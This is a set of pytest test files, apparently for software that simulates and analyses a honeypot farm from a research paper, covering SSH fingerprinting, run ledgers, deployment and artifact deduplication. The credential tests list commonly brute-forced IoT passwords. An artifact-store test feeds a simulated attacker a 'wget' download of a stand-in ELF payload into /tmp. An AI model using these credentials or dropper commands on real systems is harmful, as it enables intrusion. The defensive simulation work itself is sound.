        assert report.federation_gain == pytest.approx(1.0)  # p0 sees all

    def test_empty(self):
        report = federation_report(HashOccurrences.build(StoreBuilder().build()))
        assert report.sub_farms == []
        assert report.mean_coverage == 0.0

    def test_generated_federation_value(self, small_dataset):
        occ = HashOccurrences.build(small_dataset.store)
        report = federation_report(occ, k=4, rng=RngStream(3, "fed"))
        # The paper's argument: every sub-farm misses a large share of the
        # union, so sharing data has substantial value.
        assert report.best_coverage < 0.9
        assert report.federation_gain > 1.1
        assert report.mean_detection_lag >= 0.0


class TestCoverageBySize:
    def test_monotone_in_size(self, small_dataset):
        occ = HashOccurrences.build(small_dataset.store)
        curve = coverage_by_farm_size(occ, [1, 10, 50, 221],
                                      RngStream(4, "curve"))
        assert curve[1] < curve[50] <= curve[221]
        assert curve[221] == pytest.approx(1.0)

    def test_single_pot_small(self, small_dataset):
        occ = HashOccurrences.build(small_dataset.store)
        curve = coverage_by_farm_size(occ, [1], RngStream(5, "curve"))
        # One honeypot sees only a few percent of the farm's hashes.
        assert curve[1] < 0.15
