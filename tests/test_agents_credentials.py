"""Tests for credential dictionaries."""

from collections import Counter

from repro.agents.credentials import (
    CredentialDictionary,
    FAILED_USERNAMES,
    SUCCESSFUL_PASSWORDS,
)
from repro.honeypot.auth import AuthPolicy
from repro.simulation.rng import RngStream


class TestDictionaries:
    def test_table2_passwords_present(self):
        # All ten of the paper's Table 2 passwords are modelled.
        values = {p for p, _ in SUCCESSFUL_PASSWORDS}
        for password in ("admin", "1234", "3245gs5662d34", "dreambox",
                         "vertex25ektks123", "12345", "h3c", "1qaz2wsx3edc",
                         "passw0rd", "GM8182"):
            assert password in values

    def test_paper_usernames_present(self):
        values = {u for u, _ in FAILED_USERNAMES}
        for username in ("nproc", "admin", "user"):
            assert username in values

    def test_root_never_in_success_list(self):
        assert all(p != "root" for p, _ in SUCCESSFUL_PASSWORDS)


class TestSampling:
    def setup_method(self):
        self.creds = CredentialDictionary(RngStream(5, "creds"))
        self.policy = AuthPolicy()

    def test_successful_passwords_pass_policy(self):
        for _ in range(200):
            assert self.policy.check_password("root", self.creds.successful_password()).success

    def test_failing_credentials_fail_policy(self):
        for _ in range(200):
            username, password = self.creds.failing_credentials()
            assert not self.policy.check_password(username, password).success

    def test_ranking_matches_weights(self):
        counts = Counter(self.creds.successful_password() for _ in range(8000))
        assert counts.most_common(1)[0][0] == "admin"
        # "1234" should be a close second.
        assert counts["1234"] > counts["GM8182"]

    def test_attempt_sequence_ends_with_success(self):
        seq = self.creds.attempt_sequence(2, end_success=True)
        assert len(seq) == 3
        assert self.policy.check_password(*seq[-1]).success
        assert all(not self.policy.check_password(*a).success for a in seq[:-1])

    def test_attempt_sequence_all_failures(self):
        seq = self.creds.attempt_sequence(3, end_success=False)
        assert len(seq) == 3
        assert all(not self.policy.check_password(*a).success for a in seq)
