"""Run-ledger tests: schema, fold discipline, worker-count invariance.

The contract under test (DESIGN 6i): a ledger is a versioned JSONL
manifest whose canonical assembly order plus declared-volatile fields
make a workers=1 run and a workers=2 run of the same config strip to
byte-identical records — the same invariance bar the stores themselves
meet.
"""

from __future__ import annotations

import json

import pytest

from repro.obs import (
    Metrics,
    RunLedger,
    get_ledger,
    read_ledger_jsonl,
    set_ledger,
    sha256_file,
    strip_volatile_records,
    use_ledger,
    use_metrics,
    validate_ledger,
)
from repro.obs.ledger import LEDGER_VERSION, RECORD_TYPES, VOLATILE_FIELDS
from repro.sched.trace import ShardTask


def _task(index: int, key: str = "k") -> ShardTask:
    return ShardTask(index=index, kind="bg", key=key, start=0, stop=10,
                     est_cost=10.0, arrival=float(index))


def _record_task(ledger: RunLedger, index: int, **kw) -> None:
    defaults = dict(sessions=5, attempt=1, worker="w", run_seconds=0.1,
                    queue_seconds=0.0)
    defaults.update(kw)
    ledger.record_task(_task(index), **defaults)


class TestAssembly:
    def test_minimal_ledger_is_header_env_only(self):
        records = RunLedger().to_records()
        assert [r["record"] for r in records] == ["ledger", "env"]
        assert records[0]["version"] == LEDGER_VERSION

    def test_canonical_record_order(self):
        with use_metrics():
            ledger = RunLedger()
            ledger.begin_run("generate")
            ledger.record_sched(backend="pool", workers=2, tasks=2,
                                lam=0.5, makespan_virtual=4.0)
            _record_task(ledger, 1)
            _record_task(ledger, 0)
            ledger.record_heartbeat({"worker": "w", "beat": 1})
            ledger.record_alert("stale-worker", "w silent")
            ledger.record_artifact("store", "out.npz", "ab" * 32)
            metrics = Metrics()
            with metrics.span("generate"):
                pass
            ledger.record_stages(metrics)
            ledger.finish("ok")
            records = ledger.to_records()
        kinds = [r["record"] for r in records]
        assert kinds == ["ledger", "run", "env", "sched", "stage",
                        "task", "task", "heartbeat", "alert",
                        "artifact", "final"]
        # arrival order was 1 then 0; assembly is index order
        assert [r["index"] for r in records if r["record"] == "task"] \
            == [0, 1]
        assert validate_ledger(records) == []

    def test_task_rows_fold_last_wins(self):
        with use_metrics():
            ledger = RunLedger()
            _record_task(ledger, 3, attempt=1, sessions=5)
            _record_task(ledger, 3, attempt=2, sessions=5, worker="other")
        rows = [r for r in ledger.to_records() if r["record"] == "task"]
        assert len(rows) == 1
        assert rows[0]["attempt"] == 2
        assert rows[0]["worker"] == "other"

    def test_task_row_absorbs_telemetry(self):
        with use_metrics():
            ledger = RunLedger()
            _record_task(ledger, 0, telemetry={
                "telemetry_version": 1, "cpu_seconds": 0.5,
                "max_rss_kb": 1024,
            })
        row = [r for r in ledger.to_records() if r["record"] == "task"][0]
        assert row["cpu_seconds"] == 0.5
        assert row["max_rss_kb"] == 1024

    def test_stage_rollups_sorted_by_path(self):
        metrics = Metrics()
        with metrics.span("b"):
            pass
        with metrics.span("a"):
            with metrics.span("inner"):
                pass
        ledger = RunLedger()
        ledger.record_stages(metrics)
        paths = [r["path"] for r in ledger.to_records()
                 if r["record"] == "stage"]
        assert paths == sorted(paths)


class TestBeginRun:
    def test_first_call_pins_kind(self):
        ledger = RunLedger()
        ledger.begin_run("report")
        ledger.begin_run("generate", fingerprint="abc")
        run = [r for r in ledger.to_records() if r["record"] == "run"][0]
        assert run["kind"] == "report"
        assert run["fingerprint"] == "abc"

    def test_later_calls_only_fill_absent_fields(self):
        ledger = RunLedger()
        ledger.begin_run("generate", backend="inline", workers=1)
        ledger.begin_run("generate", backend="pool", workers=8,
                         fingerprint="abc")
        run = [r for r in ledger.to_records() if r["record"] == "run"][0]
        assert run["backend"] == "inline"
        assert run["workers"] == 1
        assert run["fingerprint"] == "abc"

    def test_config_serialised_as_plain_dict(self):
        from repro.workload import ScenarioConfig

        ledger = RunLedger()
        ledger.begin_run("generate", config=ScenarioConfig(seed=11))
        run = [r for r in ledger.to_records() if r["record"] == "run"][0]
        assert run["config"]["seed"] == 11
        json.dumps(run)  # must already be JSON-ready


class TestStripVolatile:
    def test_heartbeats_dropped_wholesale(self):
        ledger = RunLedger()
        ledger.record_heartbeat({"worker": "w", "beat": 1})
        stripped = strip_volatile_records(ledger.to_records())
        assert all(r["record"] != "heartbeat" for r in stripped)

    def test_declared_fields_dropped_others_kept(self):
        with use_metrics():
            ledger = RunLedger()
            ledger.begin_run("generate", backend="pool", workers=2,
                             fingerprint="abc")
            _record_task(ledger, 0, telemetry={"cpu_seconds": 0.5})
        stripped = strip_volatile_records(ledger.to_records())
        run = [r for r in stripped if r["record"] == "run"][0]
        assert "backend" not in run and "workers" not in run
        assert run["fingerprint"] == "abc"
        task = [r for r in stripped if r["record"] == "task"][0]
        assert "worker" not in task and "cpu_seconds" not in task
        assert task["index"] == 0 and task["sessions"] == 5
        env = [r for r in stripped if r["record"] == "env"][0]
        assert "pid" not in env and "hostname" not in env
        assert "python" in env

    def test_volatile_declaration_covers_every_record_type(self):
        # Every type is either wholesale-volatile or has a field
        # declaration (possibly empty) — no accidental fall-through.
        from repro.obs.ledger import VOLATILE_RECORDS

        for rtype in RECORD_TYPES:
            assert rtype in VOLATILE_RECORDS or rtype in VOLATILE_FIELDS


class TestValidate:
    def _valid(self) -> list:
        with use_metrics():
            ledger = RunLedger()
            ledger.begin_run("generate")
            _record_task(ledger, 0)
            ledger.finish("ok")
            return ledger.to_records()

    def test_valid_ledger_is_clean(self):
        assert validate_ledger(self._valid()) == []

    def test_empty_ledger_rejected(self):
        assert validate_ledger([]) == ["empty ledger (no header record)"]

    def test_missing_header_detected(self):
        records = self._valid()[1:]
        assert any("header" in p for p in validate_ledger(records))

    def test_unsupported_version_detected(self):
        records = self._valid()
        records[0] = dict(records[0], version=99)
        assert any("version" in p for p in validate_ledger(records))

    def test_unknown_record_type_detected(self):
        records = self._valid() + [{"record": "mystery"}]
        assert any("mystery" in p for p in validate_ledger(records))

    def test_missing_required_field_detected(self):
        records = self._valid()
        tasks = [r for r in records if r["record"] == "task"]
        tasks[0].pop("sessions")
        assert any("'sessions'" in p for p in validate_ledger(records))

    def test_duplicate_singleton_detected(self):
        records = self._valid()
        records.insert(2, {"record": "run", "kind": "generate"})
        assert any("at most one" in p for p in validate_ledger(records))

    def test_out_of_order_task_rows_detected(self):
        with use_metrics():
            ledger = RunLedger()
            _record_task(ledger, 0)
            _record_task(ledger, 1)
        records = ledger.to_records()
        tasks = [r for r in records if r["record"] == "task"]
        i, j = records.index(tasks[0]), records.index(tasks[1])
        records[i], records[j] = records[j], records[i]
        assert any("ascending" in p for p in validate_ledger(records))

    def test_final_not_last_detected(self):
        records = self._valid()
        records.append({"record": "alert", "kind": "k", "message": "m"})
        assert any("not last" in p for p in validate_ledger(records))


class TestSeam:
    def test_default_is_no_ledger(self):
        assert get_ledger() is None

    def test_use_ledger_swaps_and_restores(self):
        ledger = RunLedger()
        with use_ledger(ledger):
            assert get_ledger() is ledger
            with use_ledger(None):
                assert get_ledger() is None
            assert get_ledger() is ledger
        assert get_ledger() is None

    def test_set_ledger_returns_it(self):
        ledger = RunLedger()
        assert set_ledger(ledger) is ledger
        assert set_ledger(None) is None


class TestRoundTrip:
    def test_write_read_round_trip(self, tmp_path):
        with use_metrics():
            ledger = RunLedger()
            ledger.begin_run("generate", fingerprint="abc")
            _record_task(ledger, 0)
            ledger.finish("ok")
            target = tmp_path / "sub" / "ledger.jsonl"
            count = ledger.write_jsonl(target)
        records = read_ledger_jsonl(target)
        assert len(records) == count
        assert records == ledger.to_records()
        assert validate_ledger(records) == []

    def test_write_counts_into_metrics(self, tmp_path):
        metrics = Metrics()
        with use_metrics(metrics):
            ledger = RunLedger()
            ledger.write_jsonl(tmp_path / "ledger.jsonl")
        assert metrics.counter("ledger.writes") == 1
        assert metrics.counter("ledger.records") == 2

    def test_sha256_file_matches_hashlib(self, tmp_path):
        import hashlib

        target = tmp_path / "blob.bin"
        target.write_bytes(b"honeyfarm" * 1000)
        assert sha256_file(target) == \
            hashlib.sha256(target.read_bytes()).hexdigest()


class TestWorkerCountInvariance:
    """The tentpole contract, end to end through ``generate_scheduled``."""

    @pytest.fixture(scope="class")
    def ledgers(self):
        import repro.workload.shards as shards
        from repro.obs import Tracer, use_tracer
        from repro.sched import generate_scheduled
        from repro.workload import ScenarioConfig

        config = ScenarioConfig(scale=1 / 80000, seed=7, hash_scale=0.004)
        out = {}
        for backend, workers in (("inline", 1), ("pool", 2)):
            shards._PLAN = None
            ledger = RunLedger()
            with use_metrics(), use_tracer(Tracer()), use_ledger(ledger):
                ledger.begin_run("generate", config=config,
                                 backend=backend, workers=workers)
                dataset = generate_scheduled(config, backend=backend,
                                             workers=workers)
                ledger.record_store(dataset.content_digest(),
                                    len(dataset.store))
                ledger.finish("ok")
            out[backend] = ledger.to_records()
        return out

    def test_both_validate_clean(self, ledgers):
        for backend, records in ledgers.items():
            assert validate_ledger(records) == [], backend

    def test_stripped_ledgers_identical(self, ledgers):
        a = strip_volatile_records(ledgers["inline"])
        b = strip_volatile_records(ledgers["pool"])
        assert json.dumps(a, sort_keys=True) == json.dumps(b, sort_keys=True)

    def test_store_digest_recorded_and_matching(self, ledgers):
        finals = [r for records in ledgers.values() for r in records
                  if r["record"] == "final"]
        assert len(finals) == 2
        assert finals[0]["store_sha256"] == finals[1]["store_sha256"]
        assert finals[0]["sessions"] == finals[1]["sessions"] > 0

    def test_task_rows_carry_telemetry(self, ledgers):
        for records in ledgers.values():
            tasks = [r for r in records if r["record"] == "task"]
            assert tasks
            for row in tasks:
                assert row["telemetry_version"] == 1
                assert row["cpu_seconds"] >= 0.0
                assert row["max_rss_kb"] > 0

    def test_heartbeat_trail_present(self, ledgers):
        for backend, records in ledgers.items():
            beats = [r for r in records if r["record"] == "heartbeat"]
            assert beats, backend
            workers = {b["worker"] for b in beats}
            expected = {"inline"} if backend == "inline" \
                else {"pool-0", "pool-1"}
            assert workers <= expected


class TestHealthAlertHandOff:
    def test_monitor_alerts_land_in_ledger(self):
        from repro.farm.health import FarmHealthMonitor, HealthConfig

        monitor = FarmHealthMonitor(HealthConfig(liveness_timeout=10.0))
        monitor.watch(["hp-1"])
        ledger = RunLedger()
        with use_metrics(), use_ledger(ledger):
            monitor.advance(0.0)  # anchors the liveness reference
            monitor.advance(1000.0)  # hp-1 never spoke: liveness-down
        alerts = [r for r in ledger.to_records() if r["record"] == "alert"]
        assert any(a["kind"] == "liveness-down" and
                   a["honeypot_id"] == "hp-1" for a in alerts)
        assert validate_ledger(ledger.to_records()) == []


class TestCliLedger:
    ARGS = ["--scale", "80000", "--hash-scale", "0.004", "--seed", "7"]

    def test_generate_writes_ledger_with_artifact(self, tmp_path):
        from repro.__main__ import main

        out = tmp_path / "trace.npz"
        target = tmp_path / "ledger.jsonl"
        with use_metrics():
            assert main(["generate", *self.ARGS, "--workers", "1",
                         "--out", str(out), "--ledger", str(target)]) == 0
        records = read_ledger_jsonl(target)
        assert validate_ledger(records) == []
        run = [r for r in records if r["record"] == "run"][0]
        assert run["kind"] == "generate"
        assert run["fingerprint"]
        artifact = [r for r in records if r["record"] == "artifact"][0]
        assert artifact["name"] == "store"
        assert artifact["sha256"] == sha256_file(out)
        final = records[-1]
        assert final["record"] == "final" and final["status"] == "ok"
        assert final["store_sha256"]

    def test_report_env_var_arms_ledger(self, tmp_path, monkeypatch):
        from repro.__main__ import main

        target = tmp_path / "ledger.jsonl"
        monkeypatch.setenv("REPRO_LEDGER", str(target))
        with use_metrics():
            assert main(["report", *self.ARGS]) == 0
        records = read_ledger_jsonl(target)
        assert validate_ledger(records) == []
        run = [r for r in records if r["record"] == "run"][0]
        assert run["kind"] == "report"
        # enrichment from api.generate: the fingerprint arrived even
        # though the CLI only knew the subcommand name
        assert run["fingerprint"]
