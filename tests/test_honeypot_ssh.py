"""Tests for SSH negotiation and HASSH fingerprinting."""

import pytest

from repro.honeypot.ssh import (
    KNOWN_CLIENT_PROFILES,
    SshClientProfile,
    fingerprint_census,
    hassh_of,
    negotiate,
)


class TestNegotiation:
    def test_modern_client_succeeds(self):
        result = negotiate(KNOWN_CLIENT_PROFILES["SSH-2.0-Go"])
        assert result.success
        assert result.kex == "curve25519-sha256"
        assert result.cipher == "chacha20-poly1305@openssh.com"

    def test_client_preference_order_wins(self):
        # RFC 4253: the first client algorithm the server supports is used.
        client = SshClientProfile(
            version="x",
            kex=("diffie-hellman-group14-sha1", "curve25519-sha256"),
            ciphers=("aes128-ctr",),
            macs=("hmac-sha1",),
        )
        result = negotiate(client)
        assert result.kex == "diffie-hellman-group14-sha1"

    def test_legacy_only_client_fails(self):
        result = negotiate(KNOWN_CLIENT_PROFILES["SSH-2.0-sshlib-0.1"])
        assert not result.success
        assert "no common" in result.failure_reason

    def test_all_other_known_profiles_negotiate(self):
        for version, profile in KNOWN_CLIENT_PROFILES.items():
            if version == "SSH-2.0-sshlib-0.1":
                continue
            assert negotiate(profile).success, version

    def test_custom_server_lists(self):
        client = KNOWN_CLIENT_PROFILES["SSH-2.0-Go"]
        result = negotiate(client, server_kex=["diffie-hellman-group1-sha1"])
        assert not result.success


class TestHassh:
    def test_deterministic(self):
        assert hassh_of("SSH-2.0-Go") == hassh_of("SSH-2.0-Go")

    def test_hex32(self):
        fp = hassh_of("SSH-2.0-PUTTY")
        assert fp is not None and len(fp) == 32

    def test_distinct_stacks_distinct_fingerprints(self):
        fps = {hassh_of(v) for v in KNOWN_CLIENT_PROFILES}
        assert len(fps) == len(KNOWN_CLIENT_PROFILES)

    def test_unknown_version(self):
        assert hassh_of("SSH-2.0-mystery") is None

    def test_census(self):
        census = fingerprint_census([
            "SSH-2.0-Go", "SSH-2.0-Go", "SSH-2.0-PUTTY", "SSH-2.0-unknown",
        ])
        assert sum(census.values()) == 3
        assert max(census.values()) == 2

    def test_census_on_generated_trace(self, small_store):
        from repro.core.versions import version_counts
        versions = []
        for version, count in version_counts(small_store):
            versions.extend([version] * count)
        census = fingerprint_census(versions)
        # Several distinct tool stacks are active against the farm.
        assert len(census) >= 4
