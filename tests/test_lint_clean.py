"""CI gate: the tree itself must satisfy every lint invariant.

This is the test the determinism linter exists for — ``src/`` carries
zero unsuppressed findings against the checked-in (empty) baseline, and
a lint run is a pure read: it must not touch the benchmark trajectory
or any other tracked artifact.
"""

import hashlib
import json
from pathlib import Path

from repro.lint import load_baseline, render_text, run_lint

REPO_ROOT = Path(__file__).resolve().parent.parent
SRC = REPO_ROOT / "src"
BASELINE = REPO_ROOT / "lint_baseline.json"
TRAJECTORY = REPO_ROOT / "BENCH_trajectory.json"


def test_src_tree_is_lint_clean():
    result = run_lint([SRC], baseline=BASELINE)
    assert result.files > 0
    assert result.findings == [], "\n" + render_text(result.findings)


def test_checked_in_baseline_is_empty():
    # The baseline exists for emergencies (adopting a legacy tree), but
    # this repo holds itself to zero debt: nothing may hide behind it.
    assert load_baseline(BASELINE) == {}


def test_lint_run_does_not_touch_benchmark_trajectory():
    before = hashlib.sha256(TRAJECTORY.read_bytes()).hexdigest()
    run_lint([SRC], baseline=BASELINE)
    after = hashlib.sha256(TRAJECTORY.read_bytes()).hexdigest()
    assert before == after
    # and it still parses — a lint run must never corrupt artifacts
    json.loads(TRAJECTORY.read_text())


def test_fixture_corpus_covers_every_rule():
    # Keep the fixture corpus in lockstep with the rule set: adding a
    # rule without its bad/suppressed/clean triple fails here.
    from repro.lint import default_rules

    fixtures = REPO_ROOT / "tests" / "lint_fixtures"
    for rule in default_rules():
        stem = rule.id.replace("-", "_")
        for variant in ("bad", "suppressed", "clean"):
            path = fixtures / f"{stem}_{variant}.py"
            assert path.is_file(), f"missing fixture {path.name}"
