"""Integration tests for the whole-paper report."""

import numpy as np
import pytest

from repro.core.report import PAPER_VALUES, full_report, print_summary


@pytest.fixture(scope="module")
def report(small_dataset):
    return full_report(small_dataset)


class TestFullReport:
    def test_every_artifact_present(self, report):
        expected = {"table1", "table2", "table3", "table4", "table5", "table6"}
        expected |= {f"fig{i}" for i in ()}
        for key in ("fig1_pots_per_country", "fig2_activity", "fig3_bands_top",
                    "fig4_bands_all", "fig5_category_shares", "fig6_fractions",
                    "fig7_durations", "fig8_bands_by_category",
                    "fig9_bands_by_category_top", "fig10_clients_by_country",
                    "fig11_daily_ips", "fig12_pots_per_client",
                    "fig13_days_per_client", "fig14_clients_per_pot",
                    "fig15_combos", "fig16_diversity", "fig17_freshness",
                    "fig18_hashes_per_pot", "fig19_sessions_per_pot",
                    "fig20_clients_per_hash", "fig21_hashes_per_client",
                    "fig22_campaign_lengths", "fig23_country_by_category",
                    "fig24_diversity_by_category"):
            assert key in report, key
        for key in expected:
            assert key in report, key

    def test_fig1_is_paper_deployment(self, report):
        pots = report["fig1_pots_per_country"]
        assert sum(pots.values()) == 221
        assert len(pots) == 55

    def test_fig10_china_leads(self, report):
        by_country = report["fig10_clients_by_country"]
        assert max(by_country, key=by_country.get) == "CN"

    def test_fig18_19_decorrelated(self, report):
        # Pots collecting the most hashes differ from pots with most
        # sessions (paper Figs 18/19).
        hashes = report["fig18_hashes_per_pot"]
        sessions = report["fig19_sessions_per_pot"]
        top_hashes = set(np.argsort(hashes)[::-1][:10].tolist())
        top_sessions = set(np.argsort(sessions)[::-1][:10].tolist())
        assert top_hashes != top_sessions

    def test_fig20_21_long_tails(self, report):
        per_hash = report["fig20_clients_per_hash"]
        per_client = report["fig21_hashes_per_client"]
        assert per_hash[0] > per_hash[len(per_hash) // 2]
        assert per_client[0] > per_client[len(per_client) // 2]

    def test_fig22_trojans_outlast_mirai(self, report):
        ecdfs = report["fig22_campaign_lengths"]
        # Paper: trojan-tagged hashes are active on more days than mirai.
        assert ecdfs["trojan"].quantile(0.9) >= ecdfs["mirai"].quantile(0.9)

    def test_intel_coverage_low(self, report):
        assert report["intel_coverage"] < 0.15

    def test_summary_renders(self, small_dataset, report):
        text = print_summary(small_dataset, report)
        assert "paper" in text
        assert "SSH share" in text
        assert "%" in text

    def test_paper_values_table(self):
        assert PAPER_VALUES["category_shares"]["FAIL_LOG"] == 0.42
