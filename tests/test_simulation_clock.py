"""Tests for the virtual clock and timestamps."""

import datetime

import pytest

from repro.simulation.clock import (
    ANCHOR_DATE,
    OBSERVATION_DAYS,
    OBSERVATION_END,
    SECONDS_PER_DAY,
    SimClock,
    Timestamp,
    date_to_day,
    day_to_date,
)


class TestTimestamp:
    def test_day_of_zero(self):
        assert Timestamp(0.0).day == 0

    def test_day_boundary(self):
        assert Timestamp(SECONDS_PER_DAY - 0.001).day == 0
        assert Timestamp(SECONDS_PER_DAY).day == 1

    def test_second_of_day(self):
        ts = Timestamp(SECONDS_PER_DAY + 42.5)
        assert ts.second_of_day == pytest.approx(42.5)

    def test_date_anchor(self):
        assert Timestamp(0.0).date() == ANCHOR_DATE

    def test_date_advances(self):
        assert Timestamp(3 * SECONDS_PER_DAY).date() == ANCHOR_DATE + datetime.timedelta(days=3)

    def test_from_day_roundtrip(self):
        ts = Timestamp.from_day(100, 3600.0)
        assert ts.day == 100
        assert ts.second_of_day == pytest.approx(3600.0)

    def test_from_date(self):
        date = datetime.date(2022, 9, 5)
        ts = Timestamp.from_date(date)
        assert ts.date() == date

    def test_ordering(self):
        assert Timestamp(1.0) < Timestamp(2.0)

    def test_addition(self):
        assert (Timestamp(10.0) + 5.0).seconds == 15.0

    def test_subtraction_gives_seconds(self):
        assert Timestamp(20.0) - Timestamp(5.0) == 15.0

    def test_isoformat_contains_anchor_year(self):
        assert Timestamp(0.0).isoformat().startswith("2021-12-01")


class TestObservationWindow:
    def test_window_length(self):
        assert OBSERVATION_END == OBSERVATION_DAYS * SECONDS_PER_DAY

    def test_window_covers_mar_2023(self):
        # The paper's window ends March 31, 2023.
        last_day = day_to_date(OBSERVATION_DAYS - 1)
        assert last_day == datetime.date(2023, 3, 31)

    def test_date_day_roundtrip(self):
        for day in (0, 1, 100, OBSERVATION_DAYS - 1):
            assert date_to_day(day_to_date(day)) == day


class TestSimClock:
    def test_starts_at_zero(self):
        assert SimClock().seconds == 0.0

    def test_advance(self):
        clock = SimClock()
        clock.advance(10.0)
        assert clock.seconds == 10.0

    def test_advance_negative_rejected(self):
        with pytest.raises(ValueError):
            SimClock().advance(-1.0)

    def test_advance_to(self):
        clock = SimClock()
        clock.advance_to(100.0)
        assert clock.now.seconds == 100.0

    def test_advance_to_backwards_rejected(self):
        clock = SimClock(start=50.0)
        with pytest.raises(ValueError):
            clock.advance_to(49.0)

    def test_custom_start(self):
        assert SimClock(start=7.0).seconds == 7.0
