"""Tests for the farm deployment plan and collector."""

import numpy as np
import pytest

from repro.farm.collector import FarmCollector
from repro.farm.deployment import (
    HONEYPOT_AS_COUNT,
    HONEYPOT_COUNTRIES,
    build_default_deployment,
)
from repro.geo.registry import GeoRegistry, NetworkType
from repro.honeypot.protocol import Protocol
from repro.net.tcp import SSH_PORT


class TestDeployment:
    @pytest.fixture(scope="class")
    def plan(self):
        return build_default_deployment()

    def test_paper_scale(self, plan):
        # 221 honeypots, 55 countries, 65 ASes (paper Section 4).
        assert plan.n_honeypots == 221
        assert len(plan.countries) == 55
        assert len(plan.honeypot_asns) == HONEYPOT_AS_COUNT == 65

    def test_country_table_consistent(self):
        assert sum(HONEYPOT_COUNTRIES.values()) == 221
        assert len(HONEYPOT_COUNTRIES) == 55

    def test_no_honeypots_in_china(self, plan):
        # The paper notes the farm has no China deployment.
        assert "CN" not in plan.countries

    def test_us_and_singapore_host_many(self, plan):
        counts = plan.pots_per_country()
        assert counts["US"] > 10
        assert counts["SG"] > 5

    def test_unique_ids_and_ips(self, plan):
        ids = [s.honeypot_id for s in plan.sites]
        ips = [s.ip for s in plan.sites]
        assert len(set(ids)) == 221
        assert len(set(ips)) == 221

    def test_sites_resolvable_in_registry(self, plan):
        for site in plan.sites[:25]:
            found = plan.registry.lookup(site.ip)
            assert found is not None
            assert found.country == site.country
            assert found.asn == site.asn

    def test_site_by_id(self, plan):
        site = plan.site_by_id("hp-001")
        assert site.honeypot_id == "hp-001"
        with pytest.raises(KeyError):
            plan.site_by_id("hp-999")

    def test_residential_focus(self, plan):
        residential = sum(
            1 for s in plan.sites if s.network_type is NetworkType.RESIDENTIAL
        )
        assert residential / len(plan.sites) > 0.5

    def test_build_honeypots(self, plan):
        pots = plan.build_honeypots()
        assert len(pots) == 221
        assert pots[0].honeypot_id == plan.sites[0].honeypot_id

    def test_deterministic(self):
        a = build_default_deployment()
        b = build_default_deployment()
        assert [s.ip for s in a.sites] == [s.ip for s in b.sites]

    def test_too_few_ases_rejected(self):
        with pytest.raises(ValueError):
            build_default_deployment(n_ases=10)


class TestCollector:
    def test_collects_and_geostamps(self):
        registry = GeoRegistry()
        client_as = registry.register_as("CN", NetworkType.RESIDENTIAL)
        client_ip = client_as.prefixes[0].address_at(5)

        plan = build_default_deployment(registry=registry)
        collector = FarmCollector(registry=registry)
        pots = plan.build_honeypots(
            event_sink=collector.on_event, summary_sink=collector.on_summary
        )
        session = pots[0].accept(client_ip, 40000, SSH_PORT, now=0.0)
        session.try_login("root", "pw", 1.0)
        session.input_line("uname -a", 2.0)
        session.client_disconnect(3.0)
        pots[0].reap(4.0)

        assert collector.sessions_total == 1
        store = collector.build_store()
        assert len(store) == 1
        record = store.record(0)
        assert record.client_country == "CN"
        assert record.client_asn == client_as.asn
        assert record.protocol == "ssh"
        assert record.commands == ("uname -a",)

    def test_event_retention_optional(self):
        collector = FarmCollector(keep_events=False)
        from repro.honeypot.events import EventType, HoneypotEvent
        collector.on_event(HoneypotEvent(EventType.SESSION_CONNECT, 0.0, "s", "h"))
        assert collector.events == []
        keeper = FarmCollector(keep_events=True)
        keeper.on_event(HoneypotEvent(EventType.SESSION_CONNECT, 0.0, "s", "h"))
        assert len(keeper.events) == 1

    def test_per_honeypot_counter(self):
        collector = FarmCollector()
        from repro.store.records import SessionRecord
        for pot in ("a", "a", "b"):
            collector.add_record(SessionRecord(
                start_time=0.0, duration=1.0, honeypot_id=pot, protocol="ssh",
                client_ip=1, client_asn=-1, client_country="",
                n_login_attempts=0, login_success=False,
            ))
        assert collector.sessions_by_honeypot == {"a": 2, "b": 1}
