"""Tests for the artifact store."""

import pytest

from repro.honeypot.artifacts import ArtifactStore
from repro.honeypot.filesystem import hash_content


class TestArtifactStore:
    def test_submit_and_get(self):
        store = ArtifactStore()
        artifact = store.submit(b"payload", now=10.0, source_ip=7)
        assert artifact.sha256 == hash_content(b"payload")
        assert store.get(artifact.sha256) is artifact
        assert artifact.sha256 in store
        assert store.content(artifact.sha256) == b"payload"

    def test_dedup(self):
        store = ArtifactStore()
        a = store.submit(b"same", now=1.0)
        b = store.submit(b"same", now=5.0)
        assert a is b
        assert len(store) == 1
        assert a.times_seen == 2
        assert a.first_seen == 1.0
        assert a.last_seen == 5.0
        assert store.dedup_ratio == 2.0

    def test_sources_accumulate(self):
        store = ArtifactStore()
        store.submit(b"x", now=0.0, source_ip=1)
        artifact = store.submit(b"x", now=1.0, source_ip=2)
        assert artifact.sources == {1, 2}

    def test_distinct_content_distinct_artifacts(self):
        store = ArtifactStore()
        store.submit(b"one", now=0.0)
        store.submit(b"two", now=0.0)
        assert len(store) == 2

    def test_content_budget(self):
        store = ArtifactStore(keep_content_bytes=10)
        a = store.submit(b"12345678", now=0.0)  # fits
        b = store.submit(b"123456789012", now=0.0)  # over budget
        assert a.content is not None
        assert b.content is None
        assert b.size == 12  # metadata retained

    def test_top_by_sightings(self):
        store = ArtifactStore()
        for _ in range(5):
            store.submit(b"popular", now=0.0)
        store.submit(b"rare", now=0.0)
        top = store.top_by_sightings(1)
        assert top[0].times_seen == 5

    def test_singletons(self):
        store = ArtifactStore()
        store.submit(b"a", now=0.0)
        store.submit(b"a", now=1.0)
        store.submit(b"b", now=0.0)
        singles = store.singletons()
        assert len(singles) == 1
        assert singles[0].sha256 == hash_content(b"b")

    def test_empty_ratio(self):
        assert ArtifactStore().dedup_ratio == 0.0

    def test_session_integration(self):
        """Artifacts from a live session land in the store with dedup."""
        from repro.honeypot import Honeypot, HoneypotConfig
        from repro.honeypot.shell.resolver import StaticPayloadResolver

        store = ArtifactStore()
        resolver = StaticPayloadResolver({"http://h.example/b": b"\x7fELF-b"})
        hp = Honeypot(HoneypotConfig("h", 1, "DE", 1), resolver=resolver)
        for client_ip in (11, 22):
            session = hp.accept(client_ip, 1, 22, now=0.0)
            session.try_login("root", "pw", 0.5)
            session.input_line("cd /tmp; wget http://h.example/b", 1.0)
            for download in session.shell_context.downloads:
                if download.success:
                    content = session.fs.read(download.saved_path)
                    store.submit(content, now=1.0, source_ip=client_ip)
            session.client_disconnect(2.0)
        hp.reap(3.0)
        assert len(store) == 1
        artifact = store.artifacts()[0]
        assert artifact.times_seen == 2
        assert artifact.sources == {11, 22}
