"""Tests for AS-level analyses."""

import numpy as np
import pytest

from repro.core.asns import (
    as_counts_by_category,
    hashes_per_as,
    ips_per_as,
    network_type_breakdown,
    top_ases,
)
from repro.core.hashes import HashOccurrences
